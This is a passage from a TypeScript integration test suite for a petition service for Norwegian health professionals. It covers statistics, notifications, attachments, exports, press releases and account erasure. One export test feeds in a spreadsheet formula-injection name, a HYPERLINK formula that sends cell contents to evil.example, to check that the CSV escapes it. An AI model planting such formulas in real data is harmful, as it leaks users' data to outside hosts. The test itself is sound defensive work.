    expect(after.statistics).toEqual(before.statistics);

    // Named signers still count at once; anonymous ones join in whole batches of 5.
    for (let i = 0; i < 3; i += 1) await signer(fx.specialty.id, fx.county.id, true);
    await signer(fx.specialty.id, fx.county.id, false);
    expect((await snapshot()).statistics.by_specialty[0]!.count).toBe(7);
    await signer(fx.specialty.id, fx.county.id, true);
    const released = (await snapshot()).statistics;
    expect(released.daily).toEqual([{ day: osloToday(), count: 12 }]);
    expect(released.by_specialty).toEqual([
      { key: String(fx.specialty.id), name: `Internal medicine ${token}`, count: 11 },
      { key: 'other_small', name: 'Other (fewer than 5 each)', count: null },
    ]);
    // Whatever changed between two snapshots, neither the specialty nor the county is named.
    for (const stats of [before.statistics, after.statistics, released]) {
      const names = JSON.stringify(stats);
      expect(names).not.toContain('Gynaecology');
      expect(names).not.toContain('Vestfold');
    }
  });

  it('notifies the owner at milestones through the outbox, once each, and freezes the snapshot at the goal', async () => {
    expect([1, 9, 10, 11, 100, 1000, 500].map(isMilestone)).toEqual([
      false,
      false,
      true,
      false,
      true,
      true,
      false,
    ]);
    const owner = await t.session();
    const p = await published(owner, { signature_goal: 10 });
    await signedBy(p.id, 10);
    await settleJobs(t);
    const notes = await t.db
      .select()
      .from(schema.notifications)
      .where(
        and(
          eq(schema.notifications.user_id, owner.user.id),
          eq(schema.notifications.kind, 'petition_milestone'),
        ),
      );
    expect(notes).toHaveLength(1);
    expect(notes[0]!.data).toMatchObject({ count: 10 });
    const shown = await t.call(ep.show, { as: owner, params: { id: p.id } });
    expect(shown.parsed.data.delivered).toMatchObject({ count: 10 });
    // A later delivery is refused: the snapshot is frozen.
    expect((await t.call(ep.deliver, { as: owner, params: { id: p.id } })).status).toBe(409);
  });
});

describe('delivery and answer', () => {
  it('freezes the delivered count and notifies every signer of the answer', async () => {
    const owner = await t.session();
    const p = await published(owner, { signature_goal: null });
    const signer = await t.session();
    await t.call(ep.sign, { as: signer, params: { id: p.id }, body: {} });
    const delivered = await t.call(ep.deliver, { as: owner, params: { id: p.id } });
    expect(delivered.parsed.data.delivered).toMatchObject({ count: 1 });
    await t.call(ep.withdraw, { as: signer, params: { id: p.id } });
    expect((await t.call(ep.show, { as: owner, params: { id: p.id } })).parsed.data).toMatchObject({
      signatures_count: 0,
      delivered: { count: 1 },
    });
    const signer2 = await t.session();
    await t.call(ep.sign, { as: signer2, params: { id: p.id }, body: {} });
    const answered = await t.call(ep.answer, {
      as: owner,
      params: { id: p.id },
      body: { answer: 'Departementet svarer.' },
    });
    expect(answered.parsed.data.answer).toBe('Departementet svarer.');
    await settleJobs(t);
    const notes = await t.db
      .select()
      .from(schema.notifications)
      .where(
        and(
          eq(schema.notifications.user_id, signer2.user.id),
          eq(schema.notifications.kind, 'petition_answer'),
        ),
      );
    expect(notes).toHaveLength(1);
    expect(
      (await t.call(ep.answer, { as: owner, params: { id: p.id }, body: invalid({ answer: '' }) })).status,
    ).toBe(422);
  });
});

describe('lists, bookmarks and similar titles', () => {
  it('filters by search, specialties and status, and lists bookmarks newest first', async () => {
    const me = await t.session();
    const word = `opprop${uniqueToken()}`;
    const a = await published(me, { title: `Akuttkirurgi ${word}`, specialty_ids: [fx.specialty.id] });
    const b = await published(me, { title: `Fastleger ${word}`, specialty_ids: [] });
    const all = await t.call(ep.list, { as: me, query: { search: word } });
    expect(all.parsed.data.map((p) => p.id)).toEqual([b.id, a.id]);
    expect(all.parsed.meta).toEqual({ current_page: 1, last_page: 1, per_page: 10, total: 2 });
    const bySpecialty = await t.call(ep.list, {
      as: me,
      query: { search: word, petitionSpecialties: [fx.specialty.id] },
    });
    expect(bySpecialty.parsed.data.map((p) => p.id)).toEqual([a.id]);
    await t.call(ep.update, { as: me, params: { id: b.id }, body: { status: 'closed' } });
    expect(
      (await t.call(ep.list, { as: me, query: { search: word, petitionStatus: 'active' } })).parsed.data.map(
        (p) => p.id,
      ),
    ).toEqual([a.id]);
    expect(
      (await t.call(ep.list, { as: me, query: { search: word, petitionStatus: 'closed' } })).parsed.data.map(
        (p) => p.id,
      ),
    ).toEqual([b.id]);

    const reader = await t.session();
    expect((await t.call(ep.bookmark, { as: reader, params: { id: a.id } })).status).toBe(204);
    expect((await t.call(ep.bookmark, { as: reader, params: { id: b.id } })).status).toBe(204);
    expect((await t.call(ep.bookmark, { as: reader, params: { id: b.id } })).status).toBe(204);
    const saved = await t.call(ep.bookmarked, { as: reader });
    expect(saved.parsed.data.map((p) => p.id)).toEqual([b.id, a.id]);
    expect(saved.parsed.data[0]!.bookmarked).toBe(true);
    await t.call(ep.unbookmark, { as: reader, params: { id: b.id } });
    expect((await t.call(ep.bookmarked, { as: reader })).parsed.data.map((p) => p.id)).toEqual([a.id]);
    const d = await draft(me);
    expect((await t.call(ep.bookmark, { as: me, params: { id: d.id } })).status).toBe(409);
    expect((await t.call(ep.bookmark, { as: reader, params: { id: d.id } })).status).toBe(404);
  });

  it('suggests published petitions with similar titles', async () => {
    const me = await t.session();
    const p = await published(me, { title: `Bevar akuttkirurgien ved lokalsykehusene ${token}` });
    const res = await t.call(ep.similar, {
      as: me,
      query: { title: `bevar akuttkirurgien lokalsykehus ${token}` },
    });
    expect(res.parsed.data.map((x) => x.id)).toContain(p.id);
    expect((await t.call(ep.similar, { as: me, query: invalid({ title: 'x' }) })).status).toBe(422);
  });
});

describe('attachments', () => {
  const pdf = Buffer.from('%PDF-1.4\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n');

  it('stores PDFs, refuses a non-PDF renamed .pdf, caps the count, and removes them', async () => {
    const me = await t.session();
    const d = await draft(me);
    const added = await t.call(ep.addAttachments, {
      as: me,
      params: { id: d.id },
      files: { 'pdf_files[]': { buffer: pdf, name: 'bakgrunn.pdf' } },
    });
    expect(added.status).toBe(201);
    expect(added.parsed.data).toEqual([expect.objectContaining({ name: 'bakgrunn.pdf', size: pdf.length })]);
    const fake = await t.call(ep.addAttachments, {
      as: me,
      params: { id: d.id },
      files: { 'pdf_files[]': { buffer: Buffer.from('GIF89a not a pdf at all'), name: 'lure.pdf' } },
    });
    expect(fake.status).toBe(422);
    expect(Object.keys(fake.validation.errors)).toEqual(['pdf_files[]']);
    const shown = await t.call(ep.show, { as: me, params: { id: d.id } });
    expect(shown.parsed.data.attachments).toHaveLength(1);
    // A members-only kind: the links are signed, and they download (the detail's and the authors' list alike).
    const listed = (await t.call(ep.attachments, { as: me, params: { id: d.id } })).parsed.data;
    for (const url of [shown.parsed.data.attachments[0]!.url, listed[0]!.url]) {
      expect(url).toMatch(/^\/api\/files\/.+\?expires=\d+&signature=/);
      const download = await t.http.get(url!).buffer(true);
      expect(download.status).toBe(200);
      expect(download.headers['content-disposition']).toContain('bakgrunn.pdf');
      expect(Buffer.from(download.body as Buffer).equals(pdf)).toBe(true);
    }
    const other = await t.session();
    expect(
      (
        await t.call(ep.removeAttachment, {
          as: other,
          params: { id: d.id, attachmentId: added.parsed.data[0]!.id },
        })
      ).status,
    ).toBe(404);
    expect(
      (
        await t.call(ep.removeAttachment, {
          as: me,
          params: { id: d.id, attachmentId: added.parsed.data[0]!.id },
        })
      ).status,
    ).toBe(204);
    expect(
      (
        await t.call(ep.removeAttachment, {
          as: me,
          params: { id: d.id, attachmentId: added.parsed.data[0]!.id },
        })
      ).status,
    ).toBe(404);
    expect((await t.call(ep.attachments, { as: me, params: { id: d.id } })).parsed.data).toEqual([]);
  });

  it('allows at most 10 attachments per petition', async () => {
    const me = await t.session();
    const d = await draft(me);
    for (let i = 0; i < 2; i += 1) {
      const files = {
        'pdf_files[]': Array.from({ length: 5 }, (_, j) => ({ buffer: pdf, name: `${i}-${j}.pdf` })),
      };
      expect((await t.call(ep.addAttachments, { as: me, params: { id: d.id }, files })).status).toBe(201);
    }
    const eleventh = await t.call(ep.addAttachments, {
      as: me,
      params: { id: d.id },
      files: { 'pdf_files[]': { buffer: pdf, name: 'x.pdf' } },
      locale: 'en',
    });
    expect(eleventh.status).toBe(422);
    expect(eleventh.validation.errors['pdf_files[]']).toEqual([
      'A petition can have at most 10 attachments.',
    ]);
  });
});

describe('exports', () => {
  const binary = (res: NodeJS.ReadableStream, done: (err: Error | null, body: Buffer) => void): void => {
    const chunks: Buffer[] = [];
    res.on('data', (c: Buffer) => chunks.push(c));
    res.on('end', () => done(null, Buffer.concat(chunks)));
  };
  const download = (me: { accessToken: string }, id: number, format: string) =>
    t.http
      .get(`/api/my/petitions/${id}/export?format=${format}`)
      .set('Authorization', `Bearer ${me.accessToken}`)
      .buffer(true)
      .parse(binary as never);

  it('writes a name that is a spreadsheet formula as text in the CSV (OWASP: a leading quote)', async () => {
    const owner = await t.session();
    const p = await published(owner);
    const evil = await t.session({ firstName: '=HYPERLINK("https://evil.example/?x="&A1,"Click")', lastName: token });
    await t.call(ep.sign, { as: evil, params: { id: p.id }, body: {} });
    const plus = await t.session({ firstName: '@SUM(1+1)', lastName: token });
    await t.call(ep.sign, { as: plus, params: { id: p.id }, body: { anonymous: true } });
    const csv = await t.call(ep.export, { as: owner, params: { id: p.id }, query: { format: 'csv' }, locale: 'en' });
    const lines = csv.text.replace(/^\uFEFF/, '').trim().split('\n');
    expect(lines[1]!.startsWith(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"") ${token}",`)).toBe(true);
    expect(lines[2]!.startsWith(`'@SUM(1+1) ${token},`)).toBe(true);
  });

  it('streams the signature list as CSV, XLSX and PDF to the initiator only', async () => {
    const owner = await t.session();
    const p = await published(owner);
    const named = await t.session({ firstName: 'Åse', lastName: `Ærlig ${token}` });
    await t.call(ep.sign, { as: named, params: { id: p.id }, body: {} });
    const anonymous = await t.session();
    await t.call(ep.sign, { as: anonymous, params: { id: p.id }, body: { anonymous: true } });

    const csv = await t.call(ep.export, {
      as: owner,
      params: { id: p.id },
      query: { format: 'csv' },
      locale: 'en',
    });
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toContain('text/csv');
    expect(csv.headers['content-disposition']).toBe(`attachment; filename="petition-${p.id}-signatures.csv"`);
    const lines = csv.text
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(lines[0]).toBe('Name,Profession,Specialty,County,Date');
    // The owner's export names everyone, anonymous signers too.
    expect(lines).toHaveLength(3);
    expect(lines[1]).toContain(`Åse Ærlig ${token},Doctor`);

    const xlsx = await download(owner, p.id, 'xlsx');
    expect(xlsx.status).toBe(200);
    const ExcelJS = (await import('exceljs')).default;
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Uint8Array.from(xlsx.body as Buffer).buffer);
    const sheet = book.worksheets[0]!;
    expect(sheet.rowCount).toBe(3);
    expect(sheet.getRow(2).getCell(1).value).toBe(`Åse Ærlig ${token}`);

    const pdf = await download(owner, p.id, 'pdf');
    expect(pdf.status).toBe(200);
    expect(pdf.headers['content-type']).toBe('application/pdf');
    expect((pdf.body as Buffer).subarray(0, 5).toString()).toBe('%PDF-');

    const colleague = await t.session();
    await t.call(ep.addManualAuthor, {
      as: owner,
      params: { id: p.id },
      body: { name: 'Kollega', user_id: colleague.user.id },
    });
    await t.call(ep.acceptCoAuthorship, { as: colleague, params: { id: p.id } });
    const coAuthor = await t.call(ep.export, {
      as: colleague,
      params: { id: p.id },
      query: { format: 'csv' },
    });
    expect(coAuthor.status).toBe(403);
    expect(coAuthor.error.reason).toBe('not_owner');
    expect(
      (await t.call(ep.export, { as: named, params: { id: p.id }, query: { format: 'csv' } })).status,
    ).toBe(404);
    expect(
      (await t.call(ep.export, { as: null, params: { id: p.id }, query: { format: 'csv' } })).status,
    ).toBe(401);
    expect(
      (await t.call(ep.export, { as: owner, params: { id: 987654321 }, query: { format: 'csv' } })).status,
    ).toBe(404);
    expect(
      (await t.call(ep.export, { as: owner, params: { id: p.id }, query: invalid({ format: 'docx' }) }))
        .status,
    ).toBe(422);
  });
});

describe('press releases', () => {
  it('previews a release from the petition, sends it through the mail outbox with the PDF, and records it', async () => {
    const owner = await t.session();
    const p = await published(owner);
    const author = await t.call(ep.addManualAuthor, {
      as: owner,
      params: { id: p.id },
      body: { name: 'Marte Olsen', title: 'Lege' },
    });
    await signedBy(p.id, 2);
    const preview = await t.call(ep.pressRelease, { as: owner, params: { id: p.id }, locale: 'en' });
    expect(preview.status).toBe(200);
    expect(preview.parsed.data).toMatchObject({
      subject: `Petition: ${p.title}`,
      co_author_ids: [author.parsed.data.id],
      sent: [],
    });
    expect(preview.parsed.data.body).toContain('2 health professionals have signed');
    expect(preview.parsed.data.body).toContain('Marte Olsen (Lege)');
    expect(preview.parsed.data.contact).toContain(owner.user.email);

    const address = `redaksjon-${token}@avis.example.no`;
    const sent = await t.call(ep.sendPressRelease, {
      as: owner,
      params: { id: p.id },
      body: {
        subject: 'Leger krever forsvarlig arbeidstid',
        body: preview.parsed.data.body,
        contact: 'Kari, 900 00 000',
        co_author_ids: [author.parsed.data.id],
        recipients: [address],
      },
    });
    expect(sent.status).toBe(201);
    expect(sent.parsed.data.sent).toEqual([
      expect.objectContaining({ subject: 'Leger krever forsvarlig arbeidstid', recipients: [address] }),
    ]);
    const [mail] = await t.db
      .select()
      .from(schema.outboxMessages)
      .where(eq(schema.outboxMessages.to, address));
    expect(mail).toMatchObject({
      subject: 'Leger krever forsvarlig arbeidstid',
      template: 'petition_press_release',
      status: 'queued',
    });
    expect(mail!.body).toContain('Kari, 900 00 000');
    expect((mail!.data as { attachments: { filename: string; content_type: string }[] }).attachments).toEqual(
      [expect.objectContaining({ filename: `pressemelding-${p.id}.pdf`, content_type: 'application/pdf' })],
    );
    const [release] = await t.db
      .select()
      .from(schema.petitionPressReleases)
      .where(eq(schema.petitionPressReleases.petition_id, p.id));
    expect(release!.pdf_file_id).not.toBeNull();
    expect(release!.recipients).toEqual([address]);

    const bad = await t.call(ep.sendPressRelease, {
      as: owner,
      params: { id: p.id },
      body: invalid({ subject: 'Hei', body: 'kort', recipients: ['ikke-en-adresse'], co_author_ids: [] }),
      locale: 'en',
    });
    expect(bad.status).toBe(422);
    expect(Object.keys(bad.validation.errors).sort()).toEqual(['body', 'recipients.0']);
    const unknownAuthor = await t.call(ep.sendPressRelease, {
      as: owner,
      params: { id: p.id },
      body: {
        subject: 'Leger krever',
        body: 'Ti tegn eller mer her.',
        co_author_ids: [987654321],
        recipients: [address],
      },
    });
    expect(unknownAuthor.status).toBe(422);
    const stranger = await t.session();
    expect((await t.call(ep.pressRelease, { as: stranger, params: { id: p.id } })).status).toBe(404);
    expect((await t.call(ep.pressRelease, { as: null, params: { id: p.id } })).status).toBe(401);
  });
});

describe('reminders', () => {
  it('tells bookmarkers a day before the end and the initiator when it has ended, once each', async () => {
    const owner = await t.session();
    const p = await published(owner, { end_date: day(1) });
    const reader = await t.session();
    await t.call(ep.bookmark, { as: reader, params: { id: p.id } });
    const reminders = t.app.get(PetitionRemindersService);
    await reminders.run();
    await reminders.run();
    // Two days later it has ended (end date yesterday).
    await reminders.run(new Date(Date.now() + 2 * 86_400_000));
    await reminders.run(new Date(Date.now() + 2 * 86_400_000));
    await settleJobs(t);
    const kinds = async (userId: number) =>
      (
        await t.db
          .select()
          .from(schema.notifications)
          .where(and(eq(schema.notifications.user_id, userId), eq(schema.notifications.entity_id, p.id)))
      ).map((n) => n.kind);
    expect(await kinds(reader.user.id)).toEqual(['petition_ending']);
    expect(await kinds(owner.user.id)).toEqual(['petition_ended']);
  });
});

describe('account erasure', () => {
  it('removes the signature as a withdrawal link: the count drops and the chain still verifies', async () => {
    const owner = await t.session();
    const p = await published(owner);
    const leaving = await t.session();
    await t.call(ep.sign, { as: leaving, params: { id: p.id }, body: {} });
    await signedBy(p.id, 1);
    await t.app.get(AccountDataService).erase(leaving.user.id, 'test', new Date());
    const verified = await t.call(ep.verify, { as: null, params: { id: p.id } });
    expect(verified.parsed.data).toMatchObject({
      intact: true,
      length: 3,
      signatures_count: 1,
      count_matches: true,
    });
    expect(
      await t.db
        .select()
        .from(schema.petitionSignatures)
        .where(eq(schema.petitionSignatures.user_id, leaving.user.id)),
    ).toEqual([]);
  });
});
